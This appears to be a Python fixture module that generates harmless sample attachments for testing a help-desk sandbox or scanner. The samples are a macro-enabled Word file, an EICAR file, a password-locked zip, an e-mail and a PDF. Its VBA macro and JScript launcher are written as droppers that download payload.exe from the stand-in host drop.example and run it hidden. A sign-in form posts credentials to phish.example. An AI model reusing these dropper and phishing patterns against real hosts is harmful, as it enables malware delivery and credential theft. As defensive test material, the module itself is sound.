"""Files that look like what arrives in a help desk, all made here by code and all harmless.

Nothing in them does anything: macros and scripts are only text that is never run and names reserved domains, and the
EICAR test file is put together from pieces so that this source file is not one itself.
"""

from __future__ import annotations

import gzip
import io
import mimetypes
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from email.message import EmailMessage
from hashlib import sha256

from app.sandbox.compound_file import vba_project

_EPOCH = (2026, 1, 2, 3, 4, 6)

MACRO_SOURCE = """\
Sub AutoOpen()
    Dim runner As Object
    Set runner = CreateObject("WScript.Shell")
    runner.Run "powershell -NoProfile -WindowStyle Hidden -enc aAB0AHQAcAA6AC8ALwBkAHIAbwBwAC4AZQB4AGEAbQBwAGwAZQA=", 0
End Sub
Sub Document_Open()
    Shell "cmd /c certutil -urlcache -f http://drop.example/payload.exe %TEMP%\\payload.exe", vbHide
End Sub
"""


def eicar() -> bytes:
    """Return the 68 bytes of the EICAR test file (eicar.org), which every scanner reports and which does nothing."""
    pieces = ("X5O!P%@AP[4", "\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST", "-FILE!$H+H*")
    return "".join(pieces).encode("ascii")


def macro_document(source: str = MACRO_SOURCE) -> bytes:
    """Return a Word document (.docm) whose VBA project has the given source."""
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": _relationships("officeDocument", "word/document.xml"),
        "word/document.xml": _word_text("Please enable editing and content to see this invoice."),
        "word/_rels/document.xml.rels": _relationships("vbaProject", "vbaProject.bin"),
        "word/vbaProject.bin": vba_project(source),
    }
    return zip_of(parts)


def document(text: str = "Minutes of the meeting.") -> bytes:
    """Return a plain Word document (.docx) with one paragraph and no macro."""
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": _relationships("officeDocument", "word/document.xml"),
        "word/document.xml": _word_text(text),
    }
    return zip_of(parts)


def _relationships(kind: str, target: str) -> bytes:
    base = "http://schemas.microsoft.com/office/2006" if kind == "vbaProject" else _OFFICE
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{base}/relationships/{kind}" Target="{target}"/></Relationships>'
    ).encode()


_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"


def _word_text(text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{escaped}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def zip_of(files: Mapping[str, bytes]) -> bytes:
    """Return a zip archive with these members, deflated, always the same bytes for the same members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, _EPOCH), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def tar_of(files: Mapping[str, bytes], *, compressed: bool = True) -> bytes:
    """Return a tar archive with these members, gzip-compressed unless told otherwise."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), mtime=0) if compressed else buffer.getvalue()


def mail_with(
    attachments: Sequence[tuple[str, bytes]], *, subject: str = "Forwarded message", body: str = "See attached."
) -> bytes:
    """Return an e-mail message (.eml) with these attachments, their types guessed from the names."""
    message = EmailMessage()
    message["From"] = "Accounts <accounts@supplier.example>"
    message["To"] = "Support <support@company.example>"
    message["Subject"] = subject
    message["Date"] = "Fri, 02 Jan 2026 03:04:05 +0000"
    message["Message-ID"] = f"<{sha256(subject.encode()).hexdigest()[:20]}@supplier.example>"
    message.set_content(body)
    for name, data in attachments:
        kind = mimetypes.guess_type(name)[0] or "application/octet-stream"
        maintype, _, subtype = kind.partition("/")
        if maintype in ("message", "multipart"):
            maintype, subtype = "application", "octet-stream"
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    if message.is_multipart():
        message.set_boundary("=-=" + sha256(b"".join(data for _, data in attachments)).hexdigest()[:24])
    return message.as_bytes()


def png(width: int = 64, height: int = 48, *, text: bytes = b"", trailer: bytes = b"") -> bytes:
    """Return a PNG with a soft gradient; ``text`` goes into a tEXt chunk, ``trailer`` behind the end of the image."""
    rows = bytearray()
    for y in range(height):
        rows.append(0)
        for x in range(width):
            rows += bytes((90 + 120 * x // max(width, 1), 130 + 80 * y // max(height, 1), 200))
    comment = _png_chunk(b"tEXt", b"Comment\x00" + text) if text else b""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = _png_chunk(b"IHDR", header) + comment + _png_chunk(b"IDAT", zlib.compress(bytes(rows), 9))
    return b"\x89PNG\r\n\x1a\n" + body + _png_chunk(b"IEND", b"") + trailer


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pdf(text: str = "Thank you for your order.") -> bytes:
    """Return a one-page PDF that shows the text (Latin-1) in Helvetica."""
    shown = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1", "replace")
    stream = b"BT /F1 14 Tf 72 760 Td (" + shown + b") Tj ET"
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(out)
    return bytes(out) + b"xref\n0 6\n0000000000 65535 f \n" + table + end


def locked_archive(password: str = "2026", files: Mapping[str, bytes] | None = None) -> bytes:  # noqa: S107 -- a sample
    """Return a zip whose members are locked with the traditional cipher (APPNOTE 6.1), as mail programs make them.

    The default member is an EICAR file in ``statement.txt``; the standard ``zipfile`` opens it with the password.
    """
    local, central = bytearray(), bytearray()
    members = files if files is not None else {"statement.txt": eicar()}
    date = (_EPOCH[0] - 1980) << 9 | _EPOCH[1] << 5 | _EPOCH[2]
    time = _EPOCH[3] << 11 | _EPOCH[4] << 5 | _EPOCH[5] // 2
    for name, data in members.items():
        raw, checksum = name.encode(), zlib.crc32(data)
        locked = _zip_encrypt(password.encode(), checksum, data)
        shared = struct.pack("<HHHHHIIIHH", 20, 0x801, 0, time, date, checksum, len(locked), len(data), len(raw), 0)
        place = struct.pack("<HHHII", 0, 0, 0, 0, len(local))
        central += b"PK\x01\x02" + struct.pack("<H", 20) + shared + place + raw
        local += b"PK\x03\x04" + shared + raw + locked
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(local), 0)
    return bytes(local) + bytes(central) + end


def _zip_encrypt(password: bytes, checksum: int, data: bytes) -> bytes:
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = _crc_step(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = _crc_step(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    # Twelve bytes before the data, the last of them the high byte of the CRC; a fixed salt keeps samples repeatable.
    out = bytearray()
    for byte in sha256(password + data).digest()[:11] + bytes([checksum >> 24]) + data:
        stream = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ ((stream * (stream ^ 1)) >> 8 & 0xFF))
        update(byte)
    return bytes(out)


def _crc_step(crc: int, byte: int) -> int:
    # zlib.crc32 inverts before and after; the cipher wants the bare register.
    return zlib.crc32(bytes([byte]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def script_launcher() -> bytes:
    """Return a Windows script (.js) in the way of a downloader; it names reserved domains only and is never run."""
    return (
        b'var shell = new ActiveXObject("WScript.Shell");\r\n'
        b'var request = new ActiveXObject("MSXML2.XMLHTTP");\r\n'
        b'request.open("GET", "http://drop.example/payload.exe", false);\r\nrequest.send();\r\n'
        b'var stream = new ActiveXObject("ADODB.Stream");\r\nstream.Type = 1;\r\nstream.Open();\r\n'
        b'stream.Write(request.responseBody);\r\nstream.SaveToFile("payload.exe", 2);\r\n'
        b'shell.Run("powershell -WindowStyle Hidden -Command payload.exe", 0);\r\n'
    )


def training_document() -> bytes:
    """Return a harmless text for security training that quotes the EICAR string: a false positive for most scanners."""
    return (
        b"Security training, chapter 3: how to see that your scanner is awake\r\n\r\n"
        b"Save the following line in a file of its own. Every scanner reports it, and it does nothing:\r\n\r\n    "
        + eicar()
        + b"\r\n\r\nDelete the file afterwards. Questions? Ask the security team.\r\n"
    )


def log_collector() -> bytes:
    """Return a harmless batch file that copies log files: what policies forbid and people need now and then."""
    return (
        b"@echo off\r\nrem Copies the log files of the last week into one folder\r\n"
        b'mkdir "%USERPROFILE%\\logs"\r\ncopy "%ProgramData%\\Example\\*.log" "%USERPROFILE%\\logs"\r\n'
    )


def credential_form() -> bytes:
    """Return an HTML page with a sign-in form that would post to a reserved domain."""
    return (
        b"<!doctype html><html><head><title>Sign in to your mailbox</title></head><body><h1>Session expired</h1>"
        b'<form action="http://phish.example/collect.php" method="post"><input name="email" type="email">'
        b'<input name="password" type="password"><button>Sign in</button></form></body></html>'
    )


def noise(size: int, seed: int | None = None) -> bytes:
    """Return ``size`` incompressible bytes: random, or always the same for the same seed."""
    if seed is None:
        return os.urandom(size)
    out = bytearray()
    block = 0
    while len(out) < size:
        out += sha256(b"%d:%d" % (seed, block)).digest()
        block += 1
    return bytes(out[:size])
